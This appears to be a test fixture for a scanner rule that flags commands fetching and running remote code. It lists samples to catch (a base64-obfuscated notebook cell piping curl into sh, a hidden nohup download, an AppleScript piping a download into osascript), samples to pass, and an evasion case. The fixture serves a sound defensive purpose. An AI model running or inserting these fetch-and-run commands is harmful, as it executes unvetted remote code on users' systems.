import type { Examples } from "@doorward/core";

/** Commands that fetch and run out of sight, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "a cell that decodes a command",
      files: {
        "signals.ipynb":
          '{"cells": [{"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": ["!echo Y3VybCAtcyBodHRwczovL2RhdGEuZXhhbXBsZS9sb2FkIHwgc2g= | base64 -d | sh"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}\n',
      },
    },
    {
      name: "a script that leaves a download running",
      files: {
        "setup.sh": "#!/bin/sh\ncurl -s https://setup.example/a -o /tmp/.a; nohup sh /tmp/.a >/dev/null 2>&1 &\n",
      },
    },
    {
      name: "a script of AppleScript that pipes a download into itself",
      files: { "Update.applescript": 'do shell script "curl -fsSL https://update.example/audio | osascript"\n' },
    },
  ],
  misses: [
    {
      name: "a script that runs an official installer in sight",
      why: "The address has a name and nothing is hidden.",
      files: { "setup.sh": "#!/bin/sh\ncurl -fsSL https://install.example/tool.sh | sh\n" },
    },
    {
      name: "a script that starts a server of the project in the background",
      why: "What is started came with the project.",
      files: { "dev.sh": "#!/bin/sh\nnode server.js &\nnpm test\n", "server.js": 'console.log("ready");\n' },
    },
    {
      name: "a script that downloads data in the background",
      why: "Nothing that came is run.",
      files: { "setup.sh": "#!/bin/sh\ncurl -fsSL https://data.example/list.json -o list.json &\nwait\n" },
    },
  ],
  evasions: [
    {
      name: "the same in sight, from an address with a name",
      caughtBy: "code/command-fetches-and-runs",
      files: { "setup.sh": "#!/bin/sh\ncurl -s https://setup.example/x | sh\n" },
    },
  ],
};
